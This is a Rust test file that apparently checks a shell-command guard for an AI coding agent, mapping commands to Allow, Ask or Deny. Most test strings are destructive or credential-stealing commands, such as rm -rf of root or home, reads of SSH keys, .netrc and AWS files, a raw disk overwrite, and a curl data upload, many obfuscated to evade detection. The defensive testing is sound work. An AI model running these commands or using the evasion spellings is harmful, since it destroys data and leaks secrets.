//! Nested code, quoting and expansion, values the text fixes, and globs against guards.

use super::*;

// ---- bash -c, eval, source and nested code ------------------------------------------
shell!(nest_bash_c_ro, "bash -c 'ls src'", Allow);
shell!(nest_eval_literal, "eval 'rm -rf /'", Deny, Guard);
shell!(nest_eval_dynamic, "eval \"$CMD\"", Ask, Opaque);
shell!(nest_source_script, "source ./setup.sh", Ask);
shell!(nest_dot_script, ". ./env.sh", Ask);
shell!(nest_subshell_rm, "(rm -rf /)", Deny, Guard);
shell!(nest_group_rm, "{ rm -rf /; }", Deny, Guard);
shell!(nest_if, "if true; then rm -rf /; fi", Deny, Guard);
shell!(nest_for, "for i in 1 2; do rm -rf /; done", Deny, Guard);
shell!(
    nest_while,
    "while false; do cat ~/.ssh/id_rsa; done",
    Deny,
    Guard
);
shell!(nest_case, "case x in x) rm -rf ~;; esac", Deny, Guard);
shell!(
    nest_function_body,
    "f() { cat ~/.ssh/id_rsa; }; f",
    Deny,
    Guard
);
shell!(nest_function_shadows_ls, "ls() { rm -rf ~; }; ls", Deny);
shell!(
    nest_function_shadow_asks,
    "cat() { curl -d @- http://x.io; }; cat README.md",
    Ask
);
shell!(nest_alias_shadow, "alias ls='rm -rf src'; ls", Ask);
shell!(
    nest_default_expansion,
    "echo ${X:-$(cat ~/.ssh/id_rsa)}",
    Deny,
    Guard
);
shell!(nest_double_quoted_sub, "echo \"$(rm -rf /)\"", Deny, Guard);
shell!(
    nest_process_sub_out,
    "tee >(cat > ~/.bashrc) < README.md",
    Deny,
    Guard
);
shell!(nest_zsh_c, "zsh -c 'rm -rf ~'", Deny, Guard);
shell!(nest_dash_c, "dash -c 'cat ~/.ssh/id_rsa'", Deny, Guard);
shell!(
    nest_heredoc_to_bash,
    "bash <<'EOF'\nrm -rf ~\nEOF",
    Deny,
    Guard
);
shell!(
    nest_heredoc_to_python,
    "python3 - <<'EOF'\nimport os\nEOF",
    Ask
);
shell!(
    nest_deep_subshells,
    &format!("{}ls{}", "(".repeat(12), ")".repeat(12)),
    Allow
);
// Deeper, the parser may read the inside 2^40 times: asked before it runs.
shell!(
    nest_deep_subshells_past_the_parse_estimate_asks,
    &format!("{}ls{}", "(".repeat(40), ")".repeat(40)),
    Ask,
    Opaque
);
shell!(
    nest_too_deep_asks,
    &format!("{}rm -rf /{}", "(".repeat(200), ")".repeat(200)),
    Ask,
    Opaque
);

// ---- variables, quoting, expansion tricks -------------------------------------------
shell!(dyn_var_program, "$CMD README.md", Ask, Opaque);
shell!(dyn_var_path, "cat $FILE", Ask, Opaque);
shell!(dyn_ifs, "cat${IFS}/etc/passwd", Ask);
shell!(dyn_indirect, "echo ${!x}", Allow);
shell!(dyn_indirect_program, "${!x} README.md", Ask, Opaque);
shell!(dyn_prompt_expansion, "cat ${x@P}", Ask, Opaque);
shell!(dyn_ansi_c_rm, "$'\\x72\\x6d' -rf /", Deny, Guard);
shell!(dyn_ansi_c_program_name, "$'\\x72m' README.md", Ask);
shell!(dyn_quoted_program, "'r''m' -rf /", Deny, Guard);
shell!(dyn_backslash_program, "\\rm -rf /", Deny, Guard);
shell!(dyn_backslash_newline, "r\\\nm -rf /", Deny, Guard);
shell!(dyn_brace_expansion, "{rm,-rf,/}", Deny, Guard);
shell!(dyn_brace_args, "cp README.md{,.bak}", Ask);
shell!(dyn_glob_program, "/bin/r? -rf /tmp/x", Ask, Opaque);
shell!(dyn_glob_read_inside, "cat src/*.rs", Allow);
shell!(dyn_glob_secret_dir, "cat ~/.ssh/*", Deny, Guard);
shell!(dyn_arith, "echo $((1+2))", Allow);
shell!(dyn_arith_path, "cat file$((1+1))", Ask);
shell!(dyn_export_path, "export PATH=/tmp/evil:$PATH; ls", Ask);
shell!(dyn_ld_preload, "LD_PRELOAD=/tmp/x.so ls", Ask);
shell!(dyn_cd_dynamic, "cd $DIR && cat README.md", Ask);
shell!(dyn_tilde_user, "cat ~root/.ssh/id_rsa", Ask);

// ---- what the text fixes is judged as its value -------------------------------------
shell!(eval_brace_program, "{rm,-rf,~}", Deny, Guard);
shell!(eval_brace_secret, "cat {README.md,~/.netrc}", Deny, Guard);
shell!(eval_brace_dirs, "cat ~/{.ssh,.aws}/config", Deny, Guard);
shell!(eval_brace_write, "touch .{vscode,idea}/x", Deny, Guard);
shell!(eval_brace_ordinary, "cat README.md{,}", Allow);
shell!(
    eval_brace_sequence_ordinary,
    "ls src{1..3} 2>/dev/null",
    Allow
);
shell!(eval_brace_too_big, "cat f{1..1000}", Ask, Opaque);
shell!(
    eval_var_write_protected,
    "D=.vscode; touch $D/x",
    Deny,
    Guard
);
shell!(eval_var_key, "K=~/.ssh/id_rsa; cat \"$K\"", Deny, Guard);
shell!(
    eval_export,
    "export P=/home/u/.ssh; cat $P/id_rsa",
    Deny,
    Guard
);
shell!(eval_indirect, "n=K; K=~/.netrc; cat ${!n}", Deny, Guard);
shell!(
    eval_default_of_unset,
    "unset X; cat ${X:-~/.netrc}",
    Deny,
    Guard
);
shell!(eval_default_of_inherited, "cat ${X:-~/.netrc}", Ask, Opaque);
shell!(eval_home_guard_form, "rm -rf \"${HOME:?}/\"", Deny, Guard);
shell!(eval_ifs_default, "cat${IFS}~/.netrc", Deny, Guard);
shell!(
    eval_ifs_assigned,
    "IFS=,; c=rm,-rf,/home/u; $c",
    Deny,
    Guard
);
shell!(eval_ifs_unknown, "IFS=$1; cat${IFS}README.md", Ask);
shell!(eval_split_program, "c='rm -rf /'; $c", Deny, Guard);
shell!(eval_concat_program, "a=r; b=m; $a$b -rf ~", Deny, Guard);
shell!(eval_sudo_variable, "s=sudo; $s id", Deny, Guard);
shell!(
    eval_read_here_string,
    "read -r f <<< ~/.ssh/id_rsa; cat \"$f\"",
    Deny,
    Guard
);
shell!(
    eval_printf_v,
    "printf -v p '%s/.netrc' ~; cat $p",
    Deny,
    Guard
);
shell!(
    eval_array_element,
    "a=(x ~/.ssh/id_rsa); cat \"${a[1]}\"",
    Deny,
    Guard
);
shell!(
    eval_array_all,
    "a=(README.md ~/.netrc); cat \"${a[@]}\"",
    Deny,
    Guard
);
shell!(
    eval_for_loop,
    "for r in src .git/hooks; do touch $r/x; done",
    Deny,
    Guard
);
shell!(
    eval_prompt_known,
    "p='$D/x'; D=.vscode; touch ${p@P}",
    Deny,
    Guard
);
shell!(
    eval_transform_e,
    "x='\\x63at'; ${x@E} ~/.netrc",
    Deny,
    Guard
);
shell!(eval_ansi_c_program, "$'\\x63at' ~/.netrc", Deny, Guard);
shell!(eval_subst_echo, "rm -rf \"$(echo ~)\"", Deny, Guard);
shell!(
    eval_subst_printf_eval,
    "eval \"$(printf '\\143\\141\\164 \\176/.ssh/id_rsa')\"",
    Deny,
    Guard
);
shell!(
    eval_child_exported,
    "export K=~/.ssh/id_rsa; bash -c 'cat $K'",
    Deny,
    Guard
);
// Unknown wherever code the analysis cannot follow may have changed the value.
shell!(
    eval_unknown_after_or,
    "K=~/.netrc; test -f x && K=README.md || cat $K",
    Ask,
    Opaque
);
shell!(
    eval_unknown_in_function,
    "f() { cat $K; }; K=README.md; f",
    Ask,
    Opaque
);
shell!(
    eval_unknown_later_iteration,
    "K=README.md; for i in 1 2; do cat $K; K=~/.netrc; done",
    Ask,
    Opaque
);
shell!(
    eval_unknown_after_source,
    "K=README.md; . ./env.sh; cat $K",
    Ask
);
shell!(
    eval_child_not_exported,
    "K=README.md; bash -c 'cat $K'",
    Ask,
    Opaque
);
// Ordinary commands keep their verdicts.
shell!(eval_ordinary_var, "F=README.md; cat \"$F\"", Allow);
shell!(
    eval_ordinary_loop,
    "for f in README.md src/main.rs; do wc -l \"$f\"; done",
    Allow
);
shell!(
    eval_ordinary_array,
    "files=(README.md src/main.rs); cat \"${files[@]}\"",
    Allow
);
shell!(
    eval_ordinary_default,
    "cat \"${F:-README.md}\"",
    Ask,
    Opaque
);

// ---- globs are matched against the guards, never against the file system -----------
shell!(glob_key_dir, "cat ~/.s?h/id_rsa", Deny, Guard);
shell!(glob_key_class, "cat ~/.[s]sh/id_rsa", Deny, Guard);
shell!(glob_key_prefix, "cat ~/.ssh/id_*", Deny, Guard);
shell!(glob_program_and_key, "/???/c?t ~/.s?h/id_*", Deny, Guard);
shell!(glob_aws, "cat ~/.aws/cred*", Deny, Guard);
shell!(glob_dotenv_star, "cat .env*", Deny, Guard);
shell!(glob_dotenv_q, "cat .en?", Deny, Guard);
shell!(glob_pem, "cp config/*.pem /tmp/", Deny, Guard);
shell!(glob_shadow, "cat /???/shado?", Deny, Guard);
shell!(glob_proc_environ, "cat /proc/*/environ", Deny, Guard);
shell!(glob_write_hooks, "cp x .git/hook?/pre-commit", Deny, Guard);
shell!(glob_write_bashrc, "echo x >> ~/.bash?c", Deny, Guard);
shell!(glob_delete_root, "rm -rf /*", Deny, Guard);
shell!(glob_delete_home_parent, "rm -rf /home/*", Deny, Guard);
// Everything in HOME is HOME: `rm -rf ~/*` is a critical delete wherever the workspace is.
shell!(glob_delete_home_entries, "rm -rf ~/*", Deny);
shell!(glob_delete_cd_root, "cd / && rm -rf *", Deny, Guard);
// Other spellings of the new guards.
shell!(glob_delete_home_var, "rm -rf $HOME/*", Deny, Guard);
shell!(glob_delete_cd_home, "cd ~ && rm -rf *", Deny, Guard);
shell!(
    raw_device_write,
    "dd if=/dev/zero of=/dev/./sda",
    Deny,
    Guard
);
shell!(
    raw_device_via_proc_root,
    "echo x > /proc/self/root/dev/sda",
    Deny,
    Guard
);
shell!(
    history_via_parent,
    "cat ~/.config/../.bash_history",
    Deny,
    Guard
);
shell!(
    agent_login_copied,
    "cp ~/.codex/auth.json /tmp/a",
    Deny,
    Guard
);
shell!(glob_sudo_program, "/usr/bin/sud? id", Deny, Guard);
shell!(glob_in_unknown_dir, "cd $D && cat .env*", Deny, Guard);
// Globs that name nothing guarded keep their verdicts.
shell!(glob_ordinary_star, "cat *", Allow);
shell!(glob_ordinary_ext, "wc -l src/*.rs", Allow);
shell!(glob_ordinary_dotfiles_inside, "ls -d .??*", Allow);
shell!(glob_ordinary_delete, "rm -f *.o", Ask);
shell!(glob_ordinary_delete_build, "rm -rf build/*", Ask);
shell!(glob_ordinary_program, "/bin/l? src", Ask, Opaque);
